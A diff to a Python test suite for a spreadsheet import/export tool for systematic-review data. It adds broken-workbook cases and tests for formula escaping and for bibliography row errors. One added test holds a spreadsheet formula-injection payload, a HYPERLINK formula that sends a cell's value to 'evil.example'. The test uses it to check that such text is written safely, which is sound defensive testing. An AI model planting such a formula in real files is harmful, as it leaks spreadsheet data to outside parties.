@@ -173,6 +173,11 @@ def _break(wb, path: Path, how: str) -> Path:
         ws["C2"] = datetime.datetime(1980, 1, 1)
     elif how == "number where text belongs":
         ws["A2"] = 2023
+    elif how == "formula as text":
+        ws["B2"] = "=1+1"
+        ws["B2"].data_type = "s"
+    elif how == "stray cell at the last row":
+        wb["studies"]["A1048576"] = "x"
     wb.save(path)
     return path
 
@@ -184,6 +189,8 @@ BROKEN = {
     "merged cell": "sheet 'studies': cells E2:F2 are merged",
     "date where text belongs": "sheet 'search_runs', row 2, column \"date_start\": holds a date (1980-01-01) where text belongs",
     "number where text belongs": "sheet 'search_runs', row 2, column \"search_run_id\": holds a number (2023) where text belongs",
+    "formula as text": "sheet 'search_runs', row 2, column \"label\": '=1+1' starts with '='",
+    "stray cell at the last row": "sheet 'studies': its cells reach",
 }
 
 
@@ -391,3 +398,23 @@ def test_the_sums_the_flow_guide_shows_are_the_ones_the_validator_checks(project
             load(project)
         assert f"{column}: {total} is" in str(error.value)
         set_cell(project, "prisma_flow.csv", row, "count", flow[row - 1][3])
+
+
+def test_text_that_looks_like_a_formula_is_written_as_text(project, tmp_path):
+    formula = '=HYPERLINK("http://evil.example/?leak="&A2,"x")'
+    set_cell(project, "studies.csv", 2, "setting", formula)
+    wb = openpyxl.load_workbook(write_workbook(project, tmp_path / "out.xlsx"))
+    cells = [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    assert formula in [c.value for c in cells]
+
+
+def test_a_new_reference_the_bibliography_refuses_is_named_by_its_sheet_row(book, project):
+    wb, path = book
+    row = ["smith2026peer", "misc", "Smith, J.", "2026", "A title", "", "", "", "", "", "", "https://a.example/<b>"]
+    wb["new references"].append(row)
+    wb.save(path)
+    with pytest.raises(DataError) as error:
+        import_workbook(project, path)
+    [problem] = error.value.problems
+    assert (problem.file, problem.row) == ("sheet 'new references'", 2), problem
